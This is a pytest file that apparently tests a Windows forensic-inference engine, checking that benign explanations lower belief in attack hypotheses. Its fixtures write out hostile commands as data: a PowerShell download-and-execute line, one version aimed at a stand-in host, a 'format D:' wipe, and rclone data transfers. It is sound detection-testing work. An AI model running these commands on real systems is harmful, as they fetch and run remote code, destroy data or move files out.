"""Other explanations at work: they lower belief in the act, speak for the alternative, and lead to nothing by themselves."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from frame_cases import Records, event, record, said, started

LOG = "windows.eventlog"
DEFENDER = "Microsoft-Windows-Windows Defender"
SERVICE = {"ServiceName": "Helper", "ImagePath": "C:\\ProgramData\\h.exe", "StartType": "auto start"}
GUIDS = "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
CHOCOLATEY = "iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))"
MAIL = {
    "from": "Ada <ada@firm.example>",
    "from_address": "ada@firm.example",
    "from_domain": "firm.example",
    "to": ["b@gmail.com"],
    "recipient_domains": ["gmail.com"],
    "attachment_count": 1,
    "attachment_names": ["plan.docx"],
}


def at(minute: int) -> str:
    return f"2026-03-02T10:{minute:02d}:00Z"


def replicated(account: str) -> Records:
    return {LOG: [event(4662, SubjectUserName=account, SubjectUserSid="S-1-5-21-1-2-3-1107", Properties=GUIDS)]}


def service(*after: Any) -> Records:
    return {LOG: [event(7045, "Service Control Manager", at(1), **SERVICE), *after]}


def switched_off(*after: Any) -> Records:
    return {LOG: [event(5001, DEFENDER, at(1)), *after]}


def formatted(parent: str) -> Records:
    return {LOG: [started("format D: /q", ParentImage=parent)]}


def script(text: str) -> Records:
    return {LOG: [event(4104, "Microsoft-Windows-PowerShell", ScriptBlockText=text, ScriptBlockId="1")]}


def mail(**more: Any) -> Records:
    return {"mail.message": [record({**MAIL, **more}, at(1))]}


MSI = event(1033, "MsiInstaller", at(4), data_0="Helper 2.1", data_4="Helper Ltd")
PRODUCT = event(15, "SecurityCenter", at(9), data_0="Sophos Home", data_1="SECURITY_PRODUCT_STATE_ON")
# rule: the frame, the alternative, the act with its explanation, the act without
CASES: dict[str, tuple[str, str, Records, Records]] = {
    "other.service_with_installation": ("persistence", "updater", service(MSI), service()),
    "other.protection_taken_over": ("defence_evasion", "other_product", switched_off(PRODUCT), switched_off()),
    "other.replicated_by_product": ("credential_access", "backup", replicated("svc_adsync"), replicated("ada")),
    "other.wiped_by_deployment": (
        "deletion_wiping",
        "housekeeping",
        formatted("C:\\MININT\\TSManager.exe"),
        formatted("C:\\Windows\\System32\\cmd.exe"),
    ),
    "other.known_install_script": (
        "script_execution",
        "own_work",
        script(CHOCOLATEY),
        script(CHOCOLATEY.replace("community.chocolatey.org", "x.example")),
    ),
    "mail.answer_to_private_sender": (
        "mail_exfiltration",
        "part_of_the_job",
        mail(in_reply_to="<1@gmail.com>"),
        mail(),
    ),
}


@pytest.mark.parametrize("rule", sorted(CASES))
def test_an_explanation_lowers_belief_in_the_act_and_speaks_for_the_alternative(rule: str, tmp_path: Path) -> None:
    frame, alternative, explained, plain = CASES[rule]
    (tmp_path / "plain").mkdir()
    (tmp_path / "explained").mkdir()
    without, with_it = said(tmp_path / "plain", plain), said(tmp_path / "explained", explained)
    assert (rule, frame, "weakens") in with_it.edges and rule not in without.observed
    assert with_it.beliefs[frame] < without.beliefs[frame]
    assert with_it.beliefs[f"{frame}/{alternative}"] > without.beliefs[f"{frame}/{alternative}"]


def test_explanations_by_themselves_lead_to_nothing(tmp_path: Path) -> None:
    alone = said(tmp_path, {LOG: [MSI, PRODUCT, event(4778, ClientAddress="LOCAL", AccountName="ada")]})
    assert not set(alone.verdicts) & {frame for frame, *_ in CASES.values()}


def page(url: str, title: str) -> Any:
    return record({"url": url, "title": title, "transition_name": "link"}, at(5))


def test_an_upload_is_told_against_by_every_way_that_left_no_trace_and_by_none_where_one_did(tmp_path: Path) -> None:
    looked_at = page("https://drop.filehost.test/upload", "Upload files")
    done = page("https://drop.filehost.test/done?files=1", "Upload complete")
    noise = {LOG + "@Logs/Security.evtx": [started("ipconfig /all"), started("whoami", at=at(50))]}
    cases: dict[str, tuple[list[Any], Records]] = {
        "unrecorded": ([looked_at], {}),
        "page": ([looked_at], noise),
        "fetched": ([looked_at], {LOG + "@Logs/Security.evtx": [started("rclone copy vault:plans C:\\Data")]}),
        "sent": ([looked_at], {LOG + "@Logs/Security.evtx": [started("rclone copy C:\\Data vault:plans")]}),
        "browser": ([looked_at, done], noise),
    }
    beliefs, laid = {}, {}
    for name, (visits, log) in cases.items():
        (tmp_path / name).mkdir()
        seen = said(tmp_path / name, {"browser.chromium.visit": visits, **log}, looked=("windows.prefetch",))
        beliefs[name] = seen.beliefs["cloud_upload"]
        laid[name] = {rule for rule, about, edge in seen.edges if (about, edge) == ("cloud_upload", "weakens")}
    assert beliefs["fetched"] < beliefs["page"] < beliefs["unrecorded"] < beliefs["browser"] == beliefs["sent"]
    assert "absence:cloud_upload:transfer_commands" not in laid["unrecorded"]  # no log: nobody looked
    assert {"cmd.transfer_in", "absence:cloud_upload:upload_named"} <= laid["fetched"]
